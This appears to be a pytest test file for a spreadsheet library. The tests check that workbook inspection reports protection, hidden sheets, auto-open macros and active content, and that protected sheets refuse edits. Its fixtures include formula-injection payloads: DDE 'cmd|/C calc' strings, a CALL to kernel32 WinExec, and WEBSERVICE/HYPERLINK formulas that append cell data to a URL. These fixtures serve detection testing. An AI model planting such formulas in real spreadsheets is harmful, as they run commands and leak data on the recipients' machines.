"""What is said of a workbook before it is edited, and what protection refuses."""

from __future__ import annotations

import pytest

from polydesk.core.errors import ProtectedDocumentError
from polydesk.office.opc.package import Package
from polydesk.office.xlsx.cell_edits import SetCells
from polydesk.office.xlsx.workbook import Workbook
from tests.xlsx_builder import S, sheet, xlsx

LOCKED = sheet("", after='<sheetProtection sheet="1" objects="1"/>')
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def kinds(data: bytes) -> list[tuple[str, bool, str | None]]:
    return [(finding.kind, finding.blocks_edit, finding.detail) for finding in Workbook(data).findings()]


def formulas(*texts: str) -> bytes:
    cells = "".join(f'<c r="A{row}"><f>{text}</f></c>' for row, text in enumerate(texts, 1))
    return xlsx(sheet(f'<row r="1">{cells}</row>'))


@pytest.mark.parametrize(
    ("data", "found"),
    [
        (xlsx(sheet("")), []),
        (xlsx(LOCKED), [("edit_protection", True, "sheet")]),
        (xlsx(sheet("", after='<sheetProtection sheet="0"/>')), []),
        (
            xlsx(sheet(""), properties='<workbookProtection lockStructure="1"/>'),
            [("edit_protection", True, "structure")],
        ),
        (
            xlsx(sheet(""), properties='<fileSharing readOnlyRecommended="1"/>'),
            [("write_protection", False, "recommended")],
        ),
        (xlsx(sheet(""), properties='<fileSharing hashValue="x"/>'), [("write_protection", True, "password")]),
        (xlsx(sheet(""), sheet(""), states={2: "hidden"}), [("hidden_content", False, "hidden")]),
        (xlsx(sheet(""), sheet(""), states={2: "veryHidden"}), [("hidden_content", False, "veryHidden")]),
        (formulas("SUM(A1:A2)", 'IF(B1="WEBSERVICE(",1,2)', 'HYPERLINK("https://example.org","here")'), []),
    ],
)  # fmt: skip
def test_protection_and_hidden_sheets_are_said(data: bytes, found: list[tuple[str, bool, str | None]]) -> None:
    assert kinds(data) == found


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("https://example.org/?"&amp;A1)',
        '_xlfn.WEBSERVICE(A1)',
        'HYPERLINK("https://example.org/?"&amp;A1,"more")',
        "cmd|'/C calc'!A0",
        "cmd|' /C calc'!'A1'",
        "1+DDE|topic!item",
        'RTD("prog",,"x")',
        'CALL("kernel32","WinExec","JCJ","calc",0)',
        '_xlfn.IMAGE("https://example.org/p.png")',
    ],
)  # fmt: skip
def test_formulas_that_reach_outside_are_said(formula: str) -> None:
    assert [kind for kind, *_ in kinds(formulas("1+1", formula))] == ["active_content"]


def test_macro_names_and_connections_are_said() -> None:
    name = '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Sheet1!$A$1</definedName></definedNames>'
    assert kinds(xlsx(sheet(""), workbook=name)) == [("macros", False, "auto")]


def test_dde_links_are_said() -> None:
    link = f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    data = xlsx(sheet(""), parts={"xl/externalLinks/externalLink1.xml": link})
    assert kinds(with_workbook_link(data, "externalLink", "externalLinks/externalLink1.xml")) == [
        ("active_content", False, "cmd|/c calc")
    ]


def with_workbook_link(data: bytes, kind: str, target: str) -> bytes:
    package = Package.open(data)
    package.add_relationship("/xl/workbook.xml", f"{R}/{kind}", target)
    return package.save()


def test_a_protected_sheet_refuses_the_edits_that_name_it() -> None:
    workbook = Workbook(xlsx(LOCKED, sheet("")))
    workbook.apply([SetCells(at="Sheet2!A1", value=1)])
    with pytest.raises(ProtectedDocumentError, match="The sheet 'Sheet1' is protected"):
        workbook.apply([SetCells(at="Sheet1!A1", value=1)])
    workbook.apply([SetCells(at="Sheet1!A1", value=1)], ignore_protection=True)


def test_words_in_cells_are_no_places() -> None:
    Workbook(xlsx(LOCKED, sheet(""))).apply([SetCells(at="Sheet2!A1", values=(("Sheet1!A1",),))])
